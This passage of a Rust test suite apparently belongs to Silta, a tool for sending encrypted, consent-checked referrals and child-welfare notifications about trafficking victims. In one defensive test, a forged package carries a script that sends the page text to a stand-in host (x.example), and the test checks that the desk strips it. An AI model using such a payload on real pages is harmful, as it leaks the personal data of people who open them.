        desk::Sender::UnknownAccepted,
    )
    .map(|_| ())
    .unwrap_err();
    assert!(
        matches!(&err, Error::BadPackage(why) if why.contains("does not match the hash")),
        "{err}"
    );
    assert!(cases::overviews(&receiver).unwrap().is_empty());
    let conn = rusqlite::Connection::open(&desk_path).unwrap();
    let chunks: i64 = conn
        .query_row("SELECT count(*) FROM attachment_chunks", [], |r| r.get(0))
        .unwrap();
    assert_eq!(chunks, 0);
    assert!(
        silta_core::audit::verify(&receiver)
            .unwrap()
            .broken
            .is_none()
    );
}

/// A package from a sender whose card the desk does not hold is imported only when the
/// caseworker accepts it (after comparing the fingerprint by phone).
#[test]
fn a_package_from_an_unknown_sender_is_imported_only_when_accepted() {
    let (f, vault, desk, view) = sender();
    consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    let out = f.dir.path().join("referral.age");
    create(&vault, &request(&view, Mode::Referral, None), &out).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let receiver = desk_vault(&dir.path().join("desk.silta"));
    let err = desk::import(
        &receiver,
        &out,
        &desk.identity,
        today(),
        desk::Sender::MustBeKnown,
    )
    .map(|_| ())
    .unwrap_err();
    let fingerprint = org::identity(&vault).unwrap().fingerprint;
    assert!(
        matches!(&err, Error::UnknownSender { fingerprint: f, .. } if *f == fingerprint),
        "{err}"
    );
    assert!(cases::overviews(&receiver).unwrap().is_empty());
    desk::import(
        &receiver,
        &out,
        &desk.identity,
        today(),
        desk::Sender::UnknownAccepted,
    )
    .unwrap();
    assert_eq!(cases::overviews(&receiver).unwrap().len(), 1);
}

/// What the desk writes out in the clear is its owner's alone: folders 0700, files 0600.
#[cfg(unix)]
#[test]
fn a_referral_opened_into_a_folder_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let (f, vault, desk, view) = sender();
    consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    let out = f.dir.path().join("referral.age");
    create(&vault, &request(&view, Mode::Referral, None), &out).unwrap();
    let folder = f.dir.path().join("opened");
    desk::open(&out, &desk.identity, &[], Some(&folder)).unwrap();
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&folder), 0o700);
    assert_eq!(mode(&folder.join("attachments")), 0o700);
    for name in [
        "manifest.json",
        "manifest.sig",
        "referral.json",
        "referral.html",
    ] {
        assert_eq!(mode(&folder.join(name)), 0o600, "{name}");
    }
}

/// Every checkpoint that left the machine is a witness: the one a package carries, handed back
/// by the receiving desk (the folder `referral open --out` wrote), finds the sender's whole
/// vault file put back to a copy older than the package.
#[test]
fn a_packages_checkpoint_handed_back_by_the_desk_finds_the_senders_file_put_back() {
    let (f, vault, desk, view) = sender();
    vault.checkpoint().unwrap();
    let older = f.dir.path().join("older.silta");
    std::fs::copy(&f.path, &older).unwrap();
    open_case(&vault, "Written after the copy");
    let out = f.dir.path().join("consultation.age");
    create(&vault, &request(&view, Mode::Consultation, None), &out).unwrap();
    let opened = f.dir.path().join("opened");
    desk::open(&out, &desk.identity, &[], Some(&opened)).unwrap();
    assert_eq!(
        silta_core::witness::check_path(&vault, &opened).unwrap(),
        None
    );
    let manifest = opened.join("manifest.json");
    assert_eq!(
        silta_core::witness::check_path(&vault, &manifest).unwrap(),
        None
    );

    vault.lock();
    std::fs::copy(&older, &f.path).unwrap();
    let vault = unlock(&f.path);
    assert!(
        vault.audit_report().is_intact(),
        "the file alone shows nothing"
    );
    let why = silta_core::witness::check_path(&vault, &opened)
        .unwrap()
        .expect("found");
    assert!(
        why.contains("the referral package") && why.contains("cut back"),
        "{why}"
    );

    // A manifest altered after it was signed, or of another organisation, is no witness.
    let mut bytes = std::fs::read(&manifest).unwrap();
    let at = bytes.iter().position(|b| *b == b'"').unwrap();
    bytes.insert(at, b' ');
    std::fs::write(&manifest, &bytes).unwrap();
    assert!(matches!(
        silta_core::witness::check_path(&vault, &opened),
        Err(Error::BadSignature)
    ));
    let (other_f, other, other_desk, other_view) = sender();
    let theirs = other_f.dir.path().join("theirs.age");
    create(
        &other,
        &request(&other_view, Mode::Consultation, None),
        &theirs,
    )
    .unwrap();
    let theirs_opened = other_f.dir.path().join("opened");
    desk::open(&theirs, &other_desk.identity, &[], Some(&theirs_opened)).unwrap();
    let err = silta_core::witness::check_path(&vault, &theirs_opened).unwrap_err();
    assert!(
        err.to_string()
            .contains("not sent by this vault's organisation"),
        "{err}"
    );
}

/// A handed-back manifest of another format or version is no witness, even signed by this
/// vault's own organisation.
#[test]
fn a_handed_back_manifest_of_another_format_or_version_is_refused() {
    let (f, vault, desk, view) = sender();
    let out = f.dir.path().join("consultation.age");
    create(&vault, &request(&view, Mode::Consultation, None), &out).unwrap();
    let opened = f.dir.path().join("opened");
    desk::open(&out, &desk.identity, &[], Some(&opened)).unwrap();
    let original: serde_json::Value =
        serde_json::from_slice(&std::fs::read(opened.join("manifest.json")).unwrap()).unwrap();
    let keys = org::keys(&vault).unwrap();
    for (field, value) in [
        ("format", serde_json::json!("silta-other")),
        ("version", serde_json::json!(2)),
    ] {
        let mut changed = original.clone();
        changed[field] = value;
        let bytes = serde_json::to_vec_pretty(&changed).unwrap();
        std::fs::write(opened.join("manifest.json"), &bytes).unwrap();
        std::fs::write(opened.join("manifest.sig"), keys.sign(&bytes).unwrap()).unwrap();
        let err = silta_core::witness::check_path(&vault, &opened).unwrap_err();
        assert!(
            err.to_string().contains("not one of version 1"),
            "{field}: {err}"
        );
    }
}

/// Every field group of the fixture's case, as a referral to the desk in `language`: the
/// preview's text and the package's referral.html.
fn everything_in(
    f: &Fixture,
    vault: &Vault,
    desk: &Desk,
    view: &CaseView,
    language: FormLanguage,
) -> (String, String) {
    let mut req = request(view, Mode::Referral, None);
    req.language = Some(language);
    let preview = referral::preview(vault, &req, today(), FormLanguage::En).unwrap();
    let out = f.dir.path().join(format!("{language:?}.age"));
    create(vault, &req, &out).unwrap();
    let html = String::from_utf8(unpack(&out, &desk.identity)["referral.html"].clone()).unwrap();
    (preview.text, html)
}

fn consent_to_everything(vault: &Vault, view: &CaseView) {
    use silta_core::words::Words;
    consents::add(
        vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, FieldGroup::EVERY),
        today(),
    )
    .unwrap();
}

/// The rule: no raw code anywhere a person reads (every enum value, language and country in the
/// form's language; dates as written there), in the preview and in referral.html alike.
/// The words docs/glossary.md's "Not used" column lists for `language`.
fn not_used(language: FormLanguage) -> Vec<String> {
    let code = match language {
        FormLanguage::Fi => "fi",
        FormLanguage::Sv => "sv",
        FormLanguage::En => "en",
    };
    include_str!("../../../docs/glossary.md")
        .lines()
        .filter_map(|line| line.split('|').nth(4))
        .flat_map(|cell| cell.split(';'))
        .filter_map(|part| part.split_once(':'))
        .filter(|(lang, _)| lang.trim() == code)
        .flat_map(|(_, words)| words.split(','))
        .map(|w| w.trim().to_lowercase())
        .filter(|w| !w.is_empty())
        .collect()
}

/// `word` in `text` as a whole word, in any case.
fn contains_word(text: &str, word: &str) -> bool {
    let text = text.to_lowercase();
    text.match_indices(word).any(|(i, _)| {
        let before = text[..i].chars().next_back();
        let after = text[i + word.len()..].chars().next();
        !before.is_some_and(char::is_alphabetic) && !after.is_some_and(char::is_alphabetic)
    })
}

#[test]
fn the_glossary_check_finds_whole_words_only() {
    assert!(not_used(FormLanguage::Sv).contains(&"remiss".to_string()));
    assert!(contains_word("Öppna en Remiss.", "remiss"));
    assert!(!contains_word("hos dataombudsmannen", "ombud"));
}

#[test]
fn every_value_on_the_form_is_words_in_the_forms_language() {
    use silta_core::words::every_word;
    let (f, vault, desk, view) = sender();
    consent_to_everything(&vault, &view);
    let all = every_word();
    for (language, expected) in [
        (
            FormLanguage::Fi,
            [
                "Rekisterinumero: Zxqv car",
                "Nainen",
                "Romania",
                "romania (äidinkieli, murre: Zxqv Moldovan)",
                "4.3.1990",
                "Turvapaikanhakija",
                "Kotikunta",
                "Kertoisitko omin sanoin, millaista elämäsi ja arkesi Suomessa on ollut?",
                "Zxqv cleaned offices at night",
            ],
        ),
        (
            FormLanguage::Sv,
            [
                "Registreringsnummer: Zxqv car",
                "Kvinna",
                "Rumänien",
                "rumänska (modersmål, dialekt: Zxqv Moldovan)",
                "4.3.1990",
                "Asylsökande",
                "Hemkommun",
                "Kan du med egna ord berätta vad du har sysslat med i Finland och hur du har haft det här?",
                "Zxqv cleaned offices at night",
            ],
        ),
        (
            FormLanguage::En,
            [
                "Registration number: Zxqv car",
                "Woman",
                "Romania",
                "Romanian (mother tongue, dialect: Zxqv Moldovan)",
                "4 March 1990",
                "Asylum seeker",
                "Municipality of residence",
                "Could you tell me in your own words what you have been doing in Finland, and what your life here has been like?",
                "Zxqv cleaned offices at night",
            ],
        ),
    ] {
        let (text, html) = everything_in(&f, &vault, &desk, &view, language);
        for shown in [&text, &html] {
            for want in expected {
                assert!(
                    shown.contains(want),
                    "{language:?}: no {want:?} in\n{shown}"
                );
            }
            // A stored name (snake_case or CamelCase) never reaches the reader.
            for (key, _) in &all {
                let stored = key.split_once('.').unwrap().1;
                let code_like =
                    stored.contains('_') || stored.chars().skip(1).any(|c| c.is_ascii_uppercase());
                assert!(
                    !(code_like && shown.contains(stored)),
                    "{language:?}: the code {stored:?} is in\n{shown}"
                );
            }
            // Bare country and language codes, and ISO dates, neither.
            let tokens: Vec<&str> = shown.split(|c: char| !c.is_alphanumeric()).collect();
            for code in ["RO", "MD", "ro", "FI"] {
                assert!(
                    !tokens.contains(&code),
                    "{language:?}: bare {code:?} in\n{shown}"
                );
            }
            assert!(!shown.contains("1990-03-04"), "{language:?}: an ISO date");
            // docs/glossary.md: one word for each thing, the authorities' word.
            for word in not_used(language) {
                assert!(
                    !contains_word(shown, &word),
                    "{language:?}: {word:?}, which the glossary does not use, in\n{shown}"
                );
            }
            if language != FormLanguage::En {
                // Nothing of the English labels is left in a Finnish or Swedish form.
                for (key, [fi, sv, en]) in &all {
                    let local = if language == FormLanguage::Fi { fi } else { sv };
                    if en != local && en.len() >= 6 {
                        assert!(
                            !shown.contains(en),
                            "{language:?}: English {en:?} ({key}) in\n{shown}"
                        );
                    }
                }
            }
        }
    }
}

/// The rule: whether the person may be called or written to comes first, in the receiver's
/// language, with a warning whenever either is no or not known (the official form's "is it safe
/// to call or write here?"); a package carrying a contact nobody asked about is not made.
#[test]
fn contact_safety_comes_first_and_an_unanswered_question_stops_the_package() {
    let (f, vault, desk, view) = sender();
    consent_to_everything(&vault, &view);
    let (text, html) = everything_in(&f, &vault, &desk, &view, FormLanguage::Fi);
    let contact = text.find("Yhteydenpito henkilöön").unwrap();
    assert!(contact < text.find("1. Henkilö").unwrap(), "{text}");
    assert!(
        text.contains("Saako henkilölle soittaa: EI \u{2014} älä soita"),
        "{text}"
    );
    assert!(
        text.contains("Saako henkilölle kirjoittaa (tekstiviesti, sähköposti, kirje): Kyllä"),
        "{text}"
    );
    // Beside the number too, for a reader who skips the rows above it.
    assert!(
        text.contains("Yhteystapa: Puhelinnumero (vain viestit, ei puheluita)"),
        "{text}"
    );
    assert!(
        text.contains("! Ota yhteyttä henkilöön vain tavalla, joka on merkitty turvalliseksi."),
        "{text}"
    );
    assert!(
        html.contains("<p class=\"urgent\">Ota yhteyttä henkilöön vain"),
        "{html}"
    );

    let mut person = view.person.record.clone();
    if let Some(c) = person.safe_contact.as_mut() {
        c.safe_to_call = Some(true);
        c.safe_to_write = None;
    }
    cases::edit(
        &vault,
        view.case.id,
        CaseInput {
            person,
            details: Some(view.case.record.details.clone()),
        },
        today(),
    )
    .unwrap();
    let mut req = request(&view, Mode::Referral, None);
    req.language = Some(FormLanguage::Sv);
    let preview = referral::preview(&vault, &req, today(), FormLanguage::En).unwrap();
    assert!(preview.contact_safety_unknown);
    assert!(
        preview.text.contains(
            "Får man skriva till personen (sms, e-post, brev): OKÄNT \u{2014} skriv inte"
        ),
        "{}",
        preview.text
    );
    assert!(
        preview
            .text
            .contains("! Kontakta personen bara på ett sätt som är markerat som säkert."),
        "{}",
        preview.text
    );
    let out = f.dir.path().join("unknown.age");
    let err = create(&vault, &req, &out).unwrap_err();
    assert!(matches!(err, Error::ContactSafetyUnknown), "{err:?}");
    assert!(!out.exists());

    let mut person = full_person(T);
    person.birth = Some(Birth::Date(d(1990, 3, 4)));
    person.age_uncertain = false;
    person.safe_contact = None;
    cases::edit(
        &vault,
        view.case.id,
        CaseInput {
            person,
            details: Some(view.case.record.details.clone()),
        },
        today(),
    )
    .unwrap();
    let preview = referral::preview(&vault, &req, today(), FormLanguage::En).unwrap();
    assert!(!preview.contact_safety_unknown);
    assert!(
        preview
            .text
            .contains("Inga kontaktuppgifter har antecknats"),
        "{}",
        preview.text
    );
    create(&vault, &req, &out).unwrap();
}

/// The rule: the Assistance System needs to know what happened and what help is needed
/// (ihmiskauppa.fi, "Asiakkaaksi auttamisjärjestelmään"); a referral without the person's account
/// or needs goes only with the caseworker's reason, printed on the form.
#[test]
fn a_referral_without_the_account_or_the_needs_goes_only_with_a_reason() {
    let (f, vault, desk, view) = sender();
    consents::add(
        &vault,
        view.case.id,
        &consent_for(Some(DESK), Purpose::Referral, &[FieldGroup::Identity]),
        today(),
    )
    .unwrap();
    let mut req = request(&view, Mode::Referral, None);
    req.missing_reason = None;
    let preview = referral::preview(&vault, &req, today(), FormLanguage::En).unwrap();
    assert_eq!(preview.missing, [FieldGroup::Account, FieldGroup::Needs]);
    let out = f.dir.path().join("incomplete.age");
    let err = create(&vault, &req, &out).unwrap_err();
    assert!(
        matches!(err, Error::ReferralIncomplete(ref m) if m == "account, needs"),
        "{err:?}"
    );
    assert!(!out.exists());
    req.missing_reason = Some("   ".into());
    assert!(matches!(
        create(&vault, &req, &out),
        Err(Error::ReferralIncomplete(_))
    ));

    req.missing_reason = Some("She wants to tell it herself, by phone.".into());
    create(&vault, &req, &out).unwrap();
    let html = String::from_utf8(unpack(&out, &desk.identity)["referral.html"].clone()).unwrap();
    assert!(
        html.contains("Why the account or the needs are missing"),
        "{html}"
    );
    assert!(
        html.contains("She wants to tell it herself, by phone."),
        "{html}"
    );

    // The reason is free text outside every field group: never in a consultation or a report,
    // where nothing asks for it.
    let mut consultation = request(&view, Mode::Consultation, None);
    consultation.missing_reason = Some("Maria K. was there too.".into());
    let err = referral::preview(&vault, &consultation, today(), FormLanguage::En).unwrap_err();
    assert!(
        matches!(err, Error::InvalidInput(ref m) if m.to_string().contains("only with a referral")),
        "{err:?}"
    );

    // With both, nothing is missing and no reason is asked for.
    consents::add(
        &vault,
        view.case.id,
        &consent_for(
            Some(DESK),
            Purpose::Referral,
            &[FieldGroup::Account, FieldGroup::Needs],
        ),
        today(),
    )
    .unwrap();
    let mut req = request(
        &view,
        Mode::Referral,
        Some(vec![FieldGroup::Account, FieldGroup::Needs]),
    );
    req.missing_reason = None;
    assert!(
        referral::preview(&vault, &req, today(), FormLanguage::En)
            .unwrap()
            .missing
            .is_empty()
    );
    create(&vault, &req, &f.dir.path().join("complete.age")).unwrap();
}

/// The police report's sender is the one reporting (fi "Ilmoittaja", sv "Anmälare"), not the
/// one proposing admission; consents share one section; an empty part has no heading.
#[test]
fn a_police_report_names_its_reporter_and_every_consent_shares_one_section() {
    let (f, vault, desk, view) = sender();
    confirmed_police(&vault, &desk);
    for groups in [&[FieldGroup::Exploiters][..], &[FieldGroup::Identity][..]] {
        consents::add(
            &vault,
            view.case.id,
            &consent_for(Some("Police"), Purpose::PoliceReport, groups),
            today(),
        )
        .unwrap();
    }
    let mut req = request(
        &view,
        Mode::Report,
        Some(vec![FieldGroup::Exploiters, FieldGroup::Identity]),
    );
    req.recipient = "Police".into();
    req.missing_reason = None;
    for (language, reporter, consent) in [
        (FormLanguage::Fi, "2. Ilmoittaja", "5. Suostumus"),
        (FormLanguage::Sv, "2. Anmälare", "5. Samtycke"),
        (FormLanguage::En, "2. Reporter", "5. Consent"),
    ] {
        req.language = Some(language);
        let text = referral::preview(&vault, &req, today(), FormLanguage::En)
            .unwrap()
            .text;
        assert!(text.contains(reporter), "{text}");
        assert!(
            !text.contains("Esittäjä") && !text.contains("Referrer"),
            "{text}"
        );
        assert_eq!(text.matches(consent).count(), 1, "{text}");
        assert!(
            text.contains(&format!("{} 1:", consent.trim_start_matches("5. "))),
            "{text}"
        );
        assert!(
            text.contains(&format!("{} 2:", consent.trim_start_matches("5. "))),
            "{text}"
        );
        // No account was sent, so the account's heading is not there at all.
        assert!(!text.contains("3. "), "{text}");
    }
    let out = f.dir.path().join("report.age");
    create(&vault, &req, &out).unwrap();
}

/// The rule: the Assistance System phones the referrer about every referral (the official form
/// asks for the referrer's contact details), so every package carries the organisation's and the
/// caseworker's phone and e-mail, and a form without a number says so. A consultation names no
/// caseworker, so it carries only the organisation's.
#[test]
fn every_package_says_how_to_call_the_referrer_back() {
    use silta_core::referrers::{self, ContactCard, Who};
    let (f, vault, desk, view) = sender();
    consent_to_everything(&vault, &view);
    let mut req = request(&view, Mode::Referral, None);
    req.language = Some(FormLanguage::Fi);
    let preview = referral::preview(&vault, &req, today(), FormLanguage::En).unwrap();
    // Nothing set is nothing sent, not an empty card.
    assert_eq!(preview.data.referrer.organisation_contact, None);
    assert_eq!(preview.data.referrer.caseworker_contact, None);
    let text = preview.text;
    assert!(
        text.contains("! Lähettäjän puhelinnumeroa ei ole kirjattu."),
        "{text}"
    );

    for bad in [
        ContactCard {
            phone: "call me".into(),
            email: String::new(),
        },
        ContactCard {
            phone: String::new(),
            email: "desk.example.fi".into(),
        },
    ] {
        assert!(matches!(
            referrers::set(&vault, Who::Organisation, &bad),
            Err(Error::InvalidInput(_))
        ));
    }
    referrers::set(
        &vault,
        Who::Organisation,
        &ContactCard {
            phone: " 020 123 4567 ".into(),
            email: "info@pro.example".into(),
        },
    )
    .unwrap();
    referrers::set(
        &vault,
        Who::Staff(vault.user()),
        &ContactCard {
            phone: "040 765 4321".into(),
            email: String::new(),
        },
    )
    .unwrap();
    assert_eq!(
        referrers::get(&vault, Who::Organisation).unwrap().phone,
        "020 123 4567"
    );
    assert_eq!(
        referrers::get(&vault, Who::Staff("someone else")).unwrap(),
        ContactCard::default()
    );

    let out = f.dir.path().join("with-contact.age");
    create(&vault, &req, &out).unwrap();
    let html = String::from_utf8(unpack(&out, &desk.identity)["referral.html"].clone()).unwrap();
    for want in [
        "<tr><th>Organisaation puhelin</th><td>020 123 4567</td></tr>",
        "<tr><th>Organisaation sähköposti</th><td>info@pro.example</td></tr>",
        "<tr><th>Työntekijän puhelin</th><td>040 765 4321</td></tr>",
    ] {
        assert!(html.contains(want), "{want} not in\n{html}");
    }
    assert!(!html.contains("ei ole kirjattu."), "{html}");
    let opened = desk::open(&out, &desk.identity, &[], None).unwrap();
    assert_eq!(
        opened.data.referrer.caseworker_contact.unwrap().phone,
        "040 765 4321"
    );

    let mut consultation = request(&view, Mode::Consultation, None);
    consultation.language = Some(FormLanguage::En);
    let data = referral::preview(&vault, &consultation, today(), FormLanguage::En)
        .unwrap()
        .data;
    assert_eq!(
        data.referrer.organisation_contact.unwrap().phone,
        "020 123 4567"
    );
    assert!(data.referrer.caseworker.is_none() && data.referrer.caseworker_contact.is_none());
}

/// The rule: a referral or report carrying the account, observations or exploiters' details goes
/// only after the caseworker confirms they name no other possible victim, and no place, employer
/// or date beyond what the consent covers (names of other possible victims never go into a
/// narrative); the confirmation is kept with the disclosure.
#[test]
fn free_text_goes_only_after_the_caseworker_checked_it_names_no_one_else() {
    let (f, vault, _desk, view) = sender();
    consent_to_everything(&vault, &view);
    for groups in [
        vec![FieldGroup::Identity, FieldGroup::Account],
        vec![FieldGroup::Identity, FieldGroup::Observations],
        vec![FieldGroup::Identity, FieldGroup::Exploiters],
    ] {
        let mut req = request(&view, Mode::Referral, Some(groups.clone()));
        req.checked_for_others = false;
        assert!(
            referral::preview(&vault, &req, today(), FormLanguage::En)
                .unwrap()
                .check_for_others
        );
        let out = f.dir.path().join("unchecked.age");
        let err = create(&vault, &req, &out).unwrap_err();
        assert!(
            matches!(err, Error::OthersNotChecked),
            "{groups:?}: {err:?}"
        );
        assert!(!out.exists());
    }
    // The reason for a missing account and a needs note are free text too; a police report of
    // identity only has none, and nothing to check.
    for (groups, reason) in [
        (vec![FieldGroup::Identity], Some("She tells it herself.")),
        (vec![FieldGroup::Identity, FieldGroup::Needs], None),
    ] {
        let mut req = request(&view, Mode::Referral, Some(groups));
        req.missing_reason = reason.map(str::to_string);
        req.checked_for_others = false;
        assert!(matches!(
            create(&vault, &req, &f.dir.path().join("x.age")),
            Err(Error::OthersNotChecked | Error::ReferralIncomplete(_))
        ));
    }
    confirmed_police(&vault, &_desk);
    consents::add(
        &vault,
        view.case.id,
        &consent_for(
            Some("Police"),
            Purpose::PoliceReport,
            &[FieldGroup::Identity],
        ),
        today(),
    )
    .unwrap();
    let mut plain = request(&view, Mode::Report, Some(vec![FieldGroup::Identity]));
    plain.recipient = "Police".into();
    plain.checked_for_others = false;
    assert!(
        !referral::preview(&vault, &plain, today(), FormLanguage::En)
            .unwrap()
            .check_for_others
    );
    create(&vault, &plain, &f.dir.path().join("plain.age")).unwrap();

    let checked = request(
        &view,
        Mode::Referral,
        Some(vec![FieldGroup::Account, FieldGroup::Needs]),
    );
    create(&vault, &checked, &f.dir.path().join("checked.age")).unwrap();
    let logged: Vec<bool> = disclosures::of_case(&vault, view.case.id)
        .unwrap()
        .iter()
        .map(|d| d.record.checked_for_others)
        .collect();
    assert_eq!(logged, [false, true]);
}

/// A hostile sender signs a package whose printable form carries script and says the person may
/// be called where the data says no. The desk checks the form's hash, then writes its own form
/// from the data it checked: the sender's never reaches the folder.
#[test]
fn the_desk_prints_its_own_form_from_the_checked_data_never_the_senders() {
    let (f, vault, desk, view) = sender();
    consent_to_everything(&vault, &view);
    let honest = f.dir.path().join("honest.age");
    let mut req = request(&view, Mode::Referral, None);
    req.language = Some(FormLanguage::En);
    create(&vault, &req, &honest).unwrap();
    let entries = unpack(&honest, &desk.identity);
    let mut manifest: referral::Manifest =
        serde_json::from_slice(&entries["manifest.json"]).unwrap();
    let hostile_form = b"<html><script>fetch('https://x.example/'+document.body.innerText)</script>May the person be called: Yes</html>";
    let hostile = f.dir.path().join("hostile.age");
    let mut writer =
        referral::package::PackageWriter::create(&hostile, &[desk.identity.to_public()]).unwrap();
    writer
        .add("referral.json", &entries["referral.json"])
        .unwrap();
    writer.add("referral.html", hostile_form).unwrap();
    manifest.files = writer.files().clone();
    writer
        .finish(&manifest, &org::keys(&vault).unwrap())
        .unwrap();

    let out = f.dir.path().join("opened");
    desk::open(&hostile, &desk.identity, &[], Some(&out)).unwrap();
    let written = std::fs::read_to_string(out.join("referral.html")).unwrap();
    assert!(!written.contains("<script"), "{written}");
    assert!(
        written.contains("May the person be called</th><td>NO \u{2014} do not call"),
        "{written}"
    );

    // Nor can the sender name another organisation as the referrer to call back, or write a
    // version of the data no reader knows.
    for (field, value) in [
        ("/referrer/organisation", serde_json::json!("A real NGO")),
        (
            "/version",
            serde_json::json!(referral::data::DATA_VERSION + 1),
        ),
    ] {
        let mut data: serde_json::Value =
            serde_json::from_slice(&entries["referral.json"]).unwrap();
        *data.pointer_mut(field).unwrap() = value;
        let posing = f.dir.path().join("posing.age");
        let _ = std::fs::remove_file(&posing);
        let mut writer =
            referral::package::PackageWriter::create(&posing, &[desk.identity.to_public()])
                .unwrap();
        writer
            .add("referral.json", &serde_json::to_vec(&data).unwrap())
            .unwrap();
        writer
            .add("referral.html", &entries["referral.html"])
            .unwrap();
        manifest.files = writer.files().clone();
        writer
            .finish(&manifest, &org::keys(&vault).unwrap())
            .unwrap();
        let err = desk::open(&posing, &desk.identity, &[], None).unwrap_err();
        assert!(
            matches!(err, Error::BadPackage(ref m) if m.contains("does not agree")),
            "{field}: {err:?}"
        );
    }
}

/// The rule: the form tells the receiver which information text the person was given before
/// consenting, and, when an interpreter read it out in a language Silta has no text in, in which
/// language (the domain brief: version, language and interpreter are recorded).
#[test]
fn the_form_names_the_information_text_and_the_language_it_was_read_out_in() {
    use silta_core::words::Words;
    let (f, vault, desk, view) = sender();
    let mut consent = consent_for(Some(DESK), Purpose::Referral, FieldGroup::EVERY);
    let shown = consent.information.as_mut().unwrap();
    shown.read_out_in = Some("ti".parse().unwrap());
    consent.interpreter = Some("Zxqv Interpreter".into());
    consents::add(&vault, view.case.id, &consent, today()).unwrap();
    let (text, html) = everything_in(&f, &vault, &desk, &view, FormLanguage::Fi);
    for shown in [&text, &html] {
        assert!(shown.contains("Henkilölle annettu tietoteksti"), "{shown}");
        assert!(
            shown.contains("versio 2026-1 (kieli: suomi); tulkattu kielelle: tigrinja"),
            "{shown}"
        );
        assert!(shown.contains("Zxqv Interpreter"), "{shown}");
    }
}

const CHILD_WELFARE: &str = "Helsinki child welfare";

/// The sender's case made a 15-year-old's, with a child welfare and a police recipient confirmed
/// (the desk's key stands in for theirs), and no consent at all.
fn child_sender() -> (Fixture, Vault, Desk, CaseView) {
    let (f, vault, desk, view) = sender();
    let mut person = view.person.record.clone();
    person.birth = Some(Birth::Date(d(2011, 2, 3)));
    let view = cases::edit(
        &vault,
        view.case.id,
        CaseInput {
            person,
            details: Some(view.case.record.details.clone()),
        },
        today(),
    )
    .unwrap();
    let r = recipients::add(
        &vault,
        CHILD_WELFARE,
        RecipientKind::ChildWelfare,
        None,
        KeySource::AgeRecipient(&desk.identity.to_public().to_string()),
    )
    .unwrap();
    recipients::confirm(
        &vault,
        CHILD_WELFARE,
        &r.record.fingerprint.to_lowercase(),
        today(),
    )
    .unwrap();
    confirmed_police(&vault, &desk);
    (f, vault, desk, view)
}

fn notify(
    vault: &Vault,
    view: &CaseView,
    kind: NotificationKind,
) -> silta_core::ids::NotificationId {
    silta_core::notifications::add(
        vault,
        view.case.id,
        &Notification {
            kind,
            ground: (kind == NotificationKind::Police).then_some(PoliceGround::SexualOffence),
            date: today(),
            authority: "Helsingin sosiaalipäivystys".into(),
            made_by: "Kaisa Virtanen".into(),
            what_was_told: "Zxqv concern: she was made to sell sex in Helsinki.".into(),
            recorded_by: String::new(),
        },
        today(),
    )
    .unwrap()
    .id
}

fn notification_request(view: &CaseView, to: &str, id: silta_core::ids::NotificationId) -> Request {
    Request {
        recipient: to.into(),
        notification: Some(id),
        language: Some(FormLanguage::Fi),
        ..request(view, Mode::Notification, None)
    }
}

/// The rule (lastensuojelulaki 25 §; the issue): a notification goes without consent, carrying
/// who the child is, how to reach them safely and the concern, nothing else; the disclosure log
/// names its legal basis, and so does the form.
#[test]
fn a_child_welfare_notification_goes_without_consent_with_identity_contact_and_the_concern_only() {
    let (f, vault, desk, view) = child_sender();
    assert!(view.consents.is_empty());
    let id = notify(&vault, &view, NotificationKind::ChildWelfare);
    let out = f.dir.path().join("notification.age");
    create(
        &vault,
        &notification_request(&view, CHILD_WELFARE, id),
        &out,
    )
    .unwrap();

    let files = unpack(&out, &desk.identity);
    let data: serde_json::Value = serde_json::from_slice(&files["referral.json"]).unwrap();
    assert_eq!(data["mode"], "notification");
    assert_eq!(
        data["field_groups"],
        serde_json::json!(["identity", "contact"])
    );
    for part in ["identity", "contact", "notification"] {
        assert!(data.get(part).is_some(), "{part} is in the package");
    }
    for part in [
        "account",
        "observations",
        "indicators",
        "needs",
        "status",
        "languages",
        "health",
        "exploiters",
        "police_status",
        "children",
    ] {
        assert!(data.get(part).is_none(), "{part} stays on the machine");
    }
    assert_eq!(data["consents"], serde_json::json!([]));
    assert_eq!(data["notification"]["legal_basis"], "child_welfare_act25");
    assert_eq!(
        data["notification"]["concern"],
        "Zxqv concern: she was made to sell sex in Helsinki."
    );
    let html = String::from_utf8(files["referral.html"].clone()).unwrap();
    for want in [
        "<h1>Lastensuojeluilmoitus</h1>",
        "3. Ilmoituksen syy",
        "Zxqv concern: she was made to sell sex in Helsinki.",
        "4. Oikeusperuste",
        "Lastensuojelulaki (417/2007) 25 § 1 mom.",
        "eikä siihen tarvita lapsen tai huoltajan suostumusta",
        "2. Ilmoittaja",
    ] {
        assert!(html.contains(want), "{want} in\n{html}");
    }
    assert!(!html.contains("5. Suostumus"), "{html}");

    let log = disclosures::of_case(&vault, view.case.id).unwrap();
    let sent = &log.last().unwrap().record;
    assert_eq!(sent.mode, Mode::Notification);
    assert_eq!(sent.legal_basis, Some(LegalBasis::ChildWelfareAct25));
    assert_eq!(sent.notification, Some(id));
    assert!(sent.consents.is_empty());

    // Less may go: identity alone, without the contact.
    let only = f.dir.path().join("identity-only.age");
    create(
        &vault,
        &Request {
            fields: Some(vec![FieldGroup::Identity]),
            ..notification_request(&view, CHILD_WELFARE, id)
        },
        &only,
    )
    .unwrap();
    let data: serde_json::Value =
        serde_json::from_slice(&unpack(&only, &desk.identity)["referral.json"]).unwrap();
    assert_eq!(data["field_groups"], serde_json::json!(["identity"]));
    assert!(data.get("contact").is_none());
}

#[test]
fn a_police_notification_names_its_subsection_and_its_suspicion() {
    let (f, vault, desk, view) = child_sender();
    let id = notify(&vault, &view, NotificationKind::Police);
    let out = f.dir.path().join("police.age");
    create(&vault, &notification_request(&view, "Police", id), &out).unwrap();
    let html = String::from_utf8(unpack(&out, &desk.identity)["referral.html"].clone()).unwrap();
    for want in [
        "<h1>Ilmoitus poliisille</h1>",
        "Lastensuojelulaki (417/2007) 25 § 3 mom.",
        "Epäilty lapseen kohdistunut seksuaalirikos (rikoslain 20 luku)",
    ] {
        assert!(html.contains(want), "{want} in\n{html}");
    }
    let sent = disclosures::of_case(&vault, view.case.id).unwrap();
    assert_eq!(
        sent.last().unwrap().record.legal_basis,
